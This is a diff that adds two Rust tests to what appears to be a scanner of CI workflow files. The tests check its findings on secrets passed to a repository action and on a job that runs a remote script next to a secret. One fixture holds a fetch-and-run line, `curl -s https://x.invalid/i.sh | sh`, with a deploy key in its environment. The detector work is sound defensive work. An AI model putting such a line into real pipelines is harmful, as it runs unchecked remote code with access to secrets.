@@ -111,6 +111,38 @@ fn a_secret_that_gained_a_reader_says_who_read_it_before() {
 }
 
 #[test]
+fn a_secret_that_is_handed_to_an_action_of_the_repository_stands_where_it_is_handed_over() {
+    let action = "inputs: {token: {required: true}}\nruns:\n  using: composite\n  steps:\n    - run: upload\n      shell: bash\n      env: {T: '${{ inputs.token }}'}\n";
+    let uses = steps("push", "- uses: ./up\n  with: {token: '${{ secrets.MIRROR_TOKEN }}'}");
+    let head = [(CI, uses.as_str()), ("up/action.yml", action)];
+    assert_eq!(
+        said_on(&public(), &[("up/action.yml", action)], &head),
+        [
+            "medium secret-gained-reader ci.yml:8 People who may push can set off the job `build`, which now reads the secret `MIRROR_TOKEN`."
+        ]
+    );
+}
+
+#[test]
+fn what_jobs_read_alike_is_one_sentence_and_a_label_that_tells_nothing_stays_one() {
+    let job = "    runs-on: ubuntu-24-4core\n    steps:\n      - run: curl -s https://x.invalid/i.sh | sh\n        env: {KEY: '${{ secrets.DEPLOY_KEY }}'}\n";
+    let quiet = job.replace("curl -s https://x.invalid/i.sh | sh", "deploy");
+    let head = format!("on: push\npermissions: {{}}\njobs:\n  a:\n{quiet}  b:\n{quiet}  c:\n{job}");
+    assert_eq!(
+        said_on(&public(), &[], &[(CI, &head)]),
+        [
+            "high remote-script-beside-secrets ci.yml:17 People who may push can set off the job `c`, where what `https://x.invalid/i.sh` answers runs unchecked, with the secret `DEPLOY_KEY` and a machine labelled `ubuntu-24-4core`.",
+            "medium secret-gained-reader ci.yml:8 People who may push can set off the jobs `a` and `b`, which now read the secret `DEPLOY_KEY`.",
+        ]
+    );
+    let own = head.replace("ubuntu-24-4core", "[self-hosted, arm]");
+    assert!(
+        said_on(&public(), &[], &[(CI, &own)])[0]
+            .ends_with("a machine of its own (`arm` and `self-hosted`).")
+    );
+}
+
+#[test]
 fn a_secret_that_was_read_behind_a_guard_is_told_when_it_is_read_without() {
     let name = beholden::domain::Foreign::new("production");
     let ground =
